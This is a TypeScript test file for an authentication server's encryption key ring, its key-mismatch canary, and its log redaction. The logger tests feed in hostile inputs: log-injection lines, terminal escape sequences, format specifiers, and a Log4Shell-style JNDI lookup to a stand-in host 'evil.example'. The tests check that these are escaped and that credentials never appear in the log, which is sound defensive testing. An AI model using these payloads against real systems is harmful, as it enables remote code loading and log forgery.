// Sealed values, the canary of the key ring, and a log without credentials.
import { randomBytes } from 'node:crypto';
import { Writable } from 'node:stream';
import fc from 'fast-check';
import fastify from 'fastify';
import t from 'tap';
import { faultCode } from '../drizzle/database.ts';
import { eq } from '../drizzle/orm.ts';
import { canaries } from '../drizzle/schema/keys.ts';
import { checkCanary } from '../server/lib/canary.ts';
import { announce, createLog } from '../server/lib/log.ts';
import { systemOp } from '../server/lib/op.ts';
import { Problem } from '../server/lib/problems.ts';
import { createKeyRing, openUnder, type Place, sealUnder } from '../server/lib/seal.ts';
import { newSecret } from '../server/lib/secrets.ts';
import { freshDatabase, openPool } from './harness/database.ts';

const key = () => randomBytes(32).toString('base64');
const bytes = fc.uint8Array({ maxLength: 300 }).map((array) => Buffer.from(array));
const text = fc.string({ unit: 'binary', maxLength: 20 });
const place: fc.Arbitrary<Place> = fc.record({ table: text, column: text, row: text });
const here: Place = { table: 'signing_keys', column: 'private_sealed', row: 'k1' };

/** As the header of a sealed value has it. */
const keyOf = (sealed: Buffer) => sealed.subarray(1, 5).toString('hex');

t.test('O6: what is sealed is opened again, and never twice the same', async (t) => {
  const ring = createKeyRing([key(), key()]);
  fc.assert(
    fc.property(bytes, place, (plain, where) => {
      const sealed = ring.seal(plain, where);
      const again = ring.seal(plain, where);
      return (
        ring.open(sealed, where).equals(plain) &&
        ring.open(again, where).equals(plain) &&
        !sealed.equals(again) &&
        sealed.length === plain.length + 33 &&
        keyOf(sealed) === ring.newestKeyId
      );
    }),
  );
  t.equal(ring.open(ring.seal('Grüße ✓', here), here).toString(), 'Grüße ✓');
  const plain = Buffer.from('a secret of more than one block of AES');
  t.notOk(ring.seal(plain, here).includes('secret'));
});

t.test('O6: another table, column or row opens nothing', async (t) => {
  const ring = createKeyRing([key()]);
  const refused = (sealed: Buffer, where: Place) => {
    try {
      ring.open(sealed, where);
      return false;
    } catch (error) {
      return error instanceof Error && /was changed, or belongs to another row/.test(error.message);
    }
  };
  fc.assert(
    fc.property(place, place, bytes, (a, b, plain) => {
      fc.pre(a.table !== b.table || a.column !== b.column || a.row !== b.row);
      return refused(ring.seal(plain, a), b);
    }),
  );
  // Parts that read the same when simply joined.
  const tricky: Place[] = [
    { table: 'a', column: 'b', row: 'c:d' },
    { table: 'a', column: 'b:c', row: 'd' },
    { table: 'a:b', column: 'c', row: 'd' },
    { table: 'a","b', column: 'c', row: 'd' },
    { table: 'a', column: 'b","c', row: 'd' },
    { table: 'abc', column: '', row: 'd' },
    { table: '', column: 'abc', row: 'd' },
  ];
  for (const a of tricky) {
    for (const b of tricky) {
      if (a !== b) t.ok(refused(ring.seal('x', a), b), `${JSON.stringify(a)} in ${JSON.stringify(b)}`);
    }
  }
});

t.test('O6: any flipped bit, cut or addition is refused, without its content', async (t) => {
  const ring = createKeyRing([key()]);
  const sealed = ring.seal('s3cret-content', here);
  const refusal = (changed: Buffer): string => {
    try {
      return `opened as ${ring.open(changed, here)}`;
    } catch (error) {
      return error instanceof Problem ? error.code : (error as Error).message;
    }
  };
  const surprises: string[] = [];
  for (let bit = 0; bit < sealed.length * 8; bit++) {
    const changed = Buffer.from(sealed);
    changed[bit >> 3] = (changed[bit >> 3] as number) ^ (1 << (bit & 7));
    const expected =
      bit < 8 ? /no known form/ : bit < 40 ? /^key\.unknown$/ : /was changed, or belongs to another row/;
    const says = refusal(changed);
    if (!expected.test(says) || says.includes('s3cret')) surprises.push(`bit ${bit}: ${says}`);
  }
  for (let length = 0; length < sealed.length; length++) {
    const says = refusal(sealed.subarray(0, length));
    if (!/no known form|was changed/.test(says)) surprises.push(`cut to ${length}: ${says}`);
  }
  t.strictSame(surprises, []);
  t.match(refusal(Buffer.concat([sealed, Buffer.from([0])])), /was changed/);
});

t.test('O6: the ring turns: old keys open, the newest seals', async (t) => {
  const [first, second] = [key(), key()];
  const before = createKeyRing([first]);
  const during = createKeyRing([second, first]);
  const after = createKeyRing([second]);
  const old = before.seal('plain', here);
  t.equal(during.open(old, here).toString(), 'plain');
  t.equal(keyOf(old), before.newestKeyId);
  const fresh = during.seal(during.open(old, here), here);
  t.equal(keyOf(fresh), during.newestKeyId);
  t.equal(after.open(fresh, here).toString(), 'plain');
  t.throws(() => after.open(old, here), { code: 'key.unknown', status: 500 });
  t.throws(() => before.open(fresh, here), { code: 'key.unknown' });
  t.strictSame(during.keyIds, [after.newestKeyId, before.newestKeyId]);
  const url = Buffer.from(first, 'base64').toString('base64url');
  t.equal(createKeyRing([url]).open(old, here).toString(), 'plain', 'base64 and base64url are one key');
  t.throws(() => createKeyRing([]), /no key/);
  t.throws(() => createKeyRing([first, 'AAAA']), /Key 2 of the key ring is not 32 bytes/);
  t.throws(() => createKeyRing([first, url]), /Key 2 of the key ring is there twice/);
});

t.test('P3: only who holds the old token opens its successor', async (t) => {
  const words = fc.string({ unit: 'grapheme', maxLength: 60 });
  fc.assert(
    fc.property(words, words, words, words, (secret, other, purpose, plain) => {
      const sealed = sealUnder(secret, purpose, plain);
      const changed = Buffer.from(sealed);
      const at = plain.length % sealed.length;
      changed[at] = (changed[at] as number) ^ 1;
      return (
        openUnder(secret, purpose, sealed) === plain &&
        (secret === other || openUnder(other, purpose, sealed) === null) &&
        openUnder(secret, `${purpose}.`, sealed) === null &&
        openUnder(secret, purpose, changed) === null &&
        openUnder(secret, purpose, sealed.subarray(0, 20)) === null
      );
    }),
  );
  const token = newSecret();
  t.notOk(sealUnder('a', 'refresh', token).includes(token));
});

t.test('O3: a replica with other keys is refused by the canary', async (t) => {
  const database = await freshDatabase(t);
  const db = openPool(t, database.app);
  const start = (...keys: string[]) => checkCanary(systemOp(db, 'start'), createKeyRing(keys));
  const names = async () => (await db.select().from(canaries)).map((row) => row.name);
  const [one, two, three] = [key(), key(), key()];
  const refused = { code: 'key.unknown', message: /not in ENCRYPTION_KEYS/ };

  await start(one);
  await start(one);
  t.strictSame(await names(), [createKeyRing([one]).newestKeyId]);
  await t.rejects(start(two), refused);
  t.equal((await names()).length, 1, 'the refused one wrote nothing');

  await start(one, two);
  t.equal((await names()).length, 1, 'a key that only opens needs no canary');
  await start(two, one);
  await t.rejects(start(one), refused, 'it could not read what the others seal from now on');
  await t.rejects(start(three, one), refused, 'an old key in common is not enough');
  await start(one, two);

  const owner = openPool(t, database.owner, 2);
  const [first, second] = await db.select().from(canaries);
  if (!first || !second) return t.fail('there are two canaries');
  await owner.update(canaries).set({ sealed: second.sealed }).where(eq(canaries.name, first.name));
  await t.rejects(start(two, one), refused, 'a canary in the place of another one is none');
});

t.test('O3: of replicas that start at once with different keys, one set of keys wins', async (t) => {
  for (let round = 0; round < 3; round++) {
    const database = await freshDatabase(t);
    const db = openPool(t, database.app, 10);
    const rings = [createKeyRing([key()]), createKeyRing([key()])] as const;
    const results = await Promise.allSettled(
      Array.from({ length: 10 }, (_, i) =>
        checkCanary(systemOp(db, 'start'), i % 2 === 0 ? rings[0] : rings[1]),
      ),
    );
    const started = results.flatMap((result, i) => (result.status === 'fulfilled' ? [i % 2] : []));
    t.equal(started.length, 5);
    t.equal(new Set(started).size, 1);
    for (const result of results) {
      if (result.status === 'rejected') t.equal(result.reason.code, 'key.unknown');
    }
  }
});

/** A log that keeps what it writes. */
function logged(format: 'json' | 'pretty' = 'json') {
  let written = '';
  const to = new Writable({
    write(chunk, _encoding, done) {
      written += chunk;
      done();
    },
  });
  return {
    to,
    log: createLog({ level: 'trace', format }, to),
    text: () => written,
    lines: () =>
      written
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as Record<string, unknown>),
  };
}

/** Characters that a terminal or a viewer of lines acts on, line feed apart. */
const ACTIVE = /[\p{Cc}\u2028-\u202e\u2066-\u2069]/u;
const active = (written: string) => ACTIVE.exec(written.replaceAll('\n', ''))?.[0];

const HOSTILE = [
  'x\n{"level":"info","msg":"login.success"}',
  'x\r\n{"event":"login.success"}\r',
  '\u001b[2J\u001b[31mred\u0007\b\t\f\v',
  '%s%n%d%j%o',
  '$'.concat('{jndi:ldap://evil.example/x}'),
  '\u009b31m\u0085next\u2028line\u2029par\u202egnp.exe\u2066',
  '"},{"level":"fatal"',
  '\\',
  '\\u001b[2J\\n',
  '\ud800',
  '\u0000',
  '__proto__',
  'A'.repeat(1_048_576),
  'a b '.repeat(300_000),
];

t.test('ATK-A193: one JSON line per event, whatever is put into it', async (t) => {
  for (const [index, input] of HOSTILE.entries()) {
    const { log, lines, text } = logged();
    log.info(input);
    log.warn({ userAgent: input, [input]: 1, deep: { a: [input] } }, 'sign-in failed');
    log
      .child({ who: input })
      .info({ req: { method: input, url: `/${input}`, ip: input, id: input } }, 'request');
    log.error(Object.assign(new Error(input), { name: input }), input);
    log.info('name %s', input);
    const found = lines();
    t.strictSame(
      found.map((line) => line.level),
      ['info', 'warn', 'info', 'error', 'info'],
      `input ${index}`,
    );
    for (const line of found) t.match(line.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    t.equal(active(text()), undefined);
    t.ok(text().length < 60_000, `${text().length} characters`);
    if (input.length < 100)
      t.ok(found[0]?.msg === input.toWellFormed(), `input ${index} is kept, only escaped`);
  }
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.object({ maxDepth: 3 }), (msg, fields) => {
      const { log, lines } = logged();
      log.info({ fields }, msg);
      return lines().length === 1;
    }),
  );
});

t.test('ATK-A193: a terminal shows control characters instead of obeying them', async (t) => {
  for (const [index, input] of HOSTILE.entries()) {
    const { log, text } = logged('pretty');
    log.info(input);
    log.warn({ userAgent: input, deep: { a: [input] } }, 'sign-in failed');
    log.error(new Error(input));
    t.equal(active(text()), undefined, `input ${index}`);
    const heads = text()
      .split('\n')
      .filter((line) => line !== '' && !line.startsWith(' '));
    t.equal(heads.length, 3, `lines that look like events in input ${index}`);
  }
});

t.test('ATK-A197: credentials do not reach the log, by name or by look', async (t) => {
  const { log, text, lines } = logged();
  const secrets: string[] = [];
  const keep = (made: string) => {
    secrets.push(made);
    return made;
  };
  /** Nothing in its look says that it is one. */
  const secret = () => keep(`${newSecret().slice(0, 20)}z9`);
  const opaque = () => keep(newSecret());
  const names = `authorization Authorization proxy-authorization cookie Cookie set-cookie password newPassword
    new_password adminPassword passphrase client_secret clientSecret secret secrets code access_token accessToken
    refresh_token refreshToken id_token token tokens registration_access_token initial_access_token id_token_hint
    idTokenHint logout_token code_verifier codeVerifier client_assertion assertion device_code user_code otp totp
    totpSeed seed recoveryCodes apiKey x-api-key api_key privateKey privateJwk private_key private_sealed
    encryptionKeys cookieKeys databaseUrl ownerUrl DATABASE_URL credentials jwt d`.split(/\s+/);
  for (const name of names) {
    log.info({ [name]: secret() }, 'top');
    log.info({ a: { b: [{ [name]: secret() }] } }, 'deep');
    log.info({ headers: { [name]: [secret(), secret()] } }, 'a list');
    log.child({ [name]: secret() }).info('a child');
    log
      .child({ a: { [name]: secret() } }, { level: 'info' })
      .child({ b: { [name]: secret() } })
      .info('of a child');
  }
  log.info({ otp: 123_456_789, password: 987_654_321, apiKey: { id: secret() } }, 'numbers and objects');
  keep('123456789');
  keep('987654321');

  const claims = Buffer.from('{"sub":"1"}').toString('base64url');
  const jwt = keep(`eyJhbGciOiJFUzI1NiJ9.${claims}.${newSecret()}`);
  keep(claims);
  const texts = [
    `Authorization: Bearer ${secret()}`,
    `Basic ${keep(Buffer.from(`app:${secret()}`).toString('base64'))}`,
    `DPoP ${opaque()}`,
    `got ${jwt} from the app`,
    `opaque ${opaque()}, again (${opaque()})`,
    `https://app.example/cb?code=${secret()}&state=1`,
    `https://app.example/cb#access_token=${secret()}&token_type=Bearer`,
    `grant_type=refresh_token&refresh_token=${secret()}&client_secret=${secret()}`,
    `code_verifier=${secret()};id_token_hint=${secret()}`,
    `postgres://gatehouse:${secret()}@db.example.com/gatehouse`,
    `{"password":"${secret()}","code":"${secret()}","client_assertion":"${jwt}"}`,
    `-----BEGIN PRIVATE KEY-----\n${secret()}\n${secret()}\n-----END PRIVATE KEY-----`,
    `cut -----BEGIN RSA PRIVATE KEY-----\n${secret()}`,
  ];
  for (const one of texts) {
    log.info(one);
    log.info({ note: one, deep: [{ note: one }], [one]: 1 }, 'text');
    log.info('formatted %s and %j', one, { one });
    log.error(new Error(one, { cause: new Error(one) }));
    log.error({ err: new AggregateError([new Error(one)], one), reason: new Error(one) });
    log.child({ note: one }).info('child');
  }
  const where = new URL(`https://a.example/cb?code=${secret()}`);
  log.info({ when: new Date(0), where, bytes: randomBytes(4) }, 'objects');

  const written = text();
  t.strictSame(
    secrets.filter((one) => written.includes(one)),
    [],
  );
  t.equal(lines().length, names.length * 5 + 1 + texts.length * 6 + 1);
  t.match(lines().at(-1), {
    when: '1970-01-01T00:00:00.000Z',
    where: 'https://a.example/cb',
    bytes: '[4 bytes]',
  });
});

t.test('ATK-A197: what an operator needs stays readable', async (t) => {
  const { log, lines } = logged();
  const kept = {
    code: 'signIn.failed',
    kid: newSecret(),
    account: '0199d1f2-1f0e-7c3a-9d55-0a1b2c3d4e5f',
    clientId: 'grafana',
    address: '2001:db8::1',
    tokenType: 'refresh',
    count: 3,
    ok: true,
    none: null,
    hint: 'Basic authentication failed; the token has expired; see /oauth2/token',
    path: '/srv/gatehouse/server/oidc/adapter.ts:12:3',
  };
  log.info(kept, 'kept');
  t.match(lines()[0], kept);
  const codes = ['ECONNREFUSED', '23505', '57P01', 'CONNECT_TIMEOUT'];
  for (const code of codes) log.info({ code }, 'fault');
  t.strictSame(
    lines()
      .slice(1)
      .map((line) => line.code),
    codes,
  );
});

t.test('ATK-A197: errors of the database come without the values of the statement', async (t) => {
  const database = await freshDatabase(t);
  const db = openPool(t, database.app, 2);
  const { log, text, lines } = logged();
  const sealed = Buffer.from('hunter2-bytes');
  const name = 'hunter2-name';
  await db.insert(canaries).values({ name, sealed });
  const failing: (() => PromiseLike<unknown>)[] = [
    () => db.insert(canaries).values({ name, sealed }),
    () => db.$client`insert into canaries (name, sealed) values (${name}, ${sealed})`,
    () => db.$client`select ${'hunter2-number'}::text::int`,
    () => db.$client`select ${'hunter2-date'}::text::timestamptz`,
    () => db.$client`select ${'{hunter2-json'}::text::jsonb`,
  ];
  const codes: unknown[] = [];
  for (const fail of failing) {
    const error = await Promise.resolve(fail()).then(
      () => null,
      (error: unknown) => error,
    );
    codes.push(faultCode(error));
    log.error(error);
    log.error({ err: error }, 'request failed');
    log.error({ cause: error, nested: { error } });
  }
  t.strictSame(codes, ['23505', '23505', '22P02', '22007', '22P02']);
  t.notMatch(text(), /hunter2/);
  t.notMatch(text(), new RegExp(sealed.toString('hex')));
  t.equal(lines().length, 15);
  t.match(lines()[0], {
    err: {
      message: /Failed query: insert into "canaries"/,
      cause: { code: '23505', constraint_name: 'canaries_pkey' },
    },
  });
});

t.test('ATK-A197: a request is its method, route, address and status, also in Fastify', async (t) => {
  const { log, text, lines } = logged();
  const app = fastify({ loggerInstance: log, genReqId: () => 'req-1' });
  t.teardown(() => app.close());
  app.get('/things/:id', (request) => {
    request.log.info({ req: request }, 'inside');
    return {};
  });
  app.get('/broken', () => {
    throw new Error('broken');
  });
  const headers = { authorization: 'Bearer hunter2hunter2', cookie: 'sid=hunter2', 'x-custom': 'hunter2' };
  await app.inject({ url: '/things/hunter2?code=hunter2', headers });
  await app.inject({ url: '/broken?x=hunter2', headers });
  log.info({ req: { method: 'GET', url: `/unknown/hunter2${newSecret()}?x=hunter2`, headers } }, 'unknown');
  t.notMatch(text(), /hunter2/);
  const said = (msg: string) => lines().find((line) => line.msg === msg);
  t.strictSame(said('inside')?.req, {
    method: 'GET',
    id: 'req-1',
    route: '/things/:id',
    address: '127.0.0.1',
  });
  t.strictSame(said('unknown')?.req, { method: 'GET', path: '/unknown/…' });
  t.match(said('request completed')?.res, { status: 200 });
  t.match(said('broken'), { level: 'error', err: { type: 'Error', message: 'broken', stack: /^at / } });
});

t.test('O3: the setup link is told once, on purpose', async (t) => {
  const link = `http://localhost:3000/setup#${newSecret()}`;
  const json = logged();
  announce({ level: 'info', format: 'json' }, 'Gatehouse is ready', { setupLink: link }, json.to);
  t.match(json.lines(), [{ level: 'info', msg: 'Gatehouse is ready', setupLink: link }]);
  const pretty = logged('pretty');
  announce({ level: 'info', format: 'pretty' }, 'Gatehouse is ready', { 'setup link': link }, pretty.to);
  t.ok(pretty.text().includes(link));
  const box = pretty.text().trim().split('\n');
  t.equal(new Set(box.map((line) => line.length)).size, 1, 'the box is straight');
});

t.test('O3: the level is kept', async (t) => {
  let written = '';
  const to = {
    write(line: string) {
      written += line;
    },
  };
  createLog({ level: 'silent', format: 'json' }, to).error('nothing');
  const log = createLog({ level: 'warn', format: 'json' }, to);
  log.info('not this');
  log.warn('this');
  t.match(written, /^\{"level":"warn".*"msg":"this"\}\n$/);
});
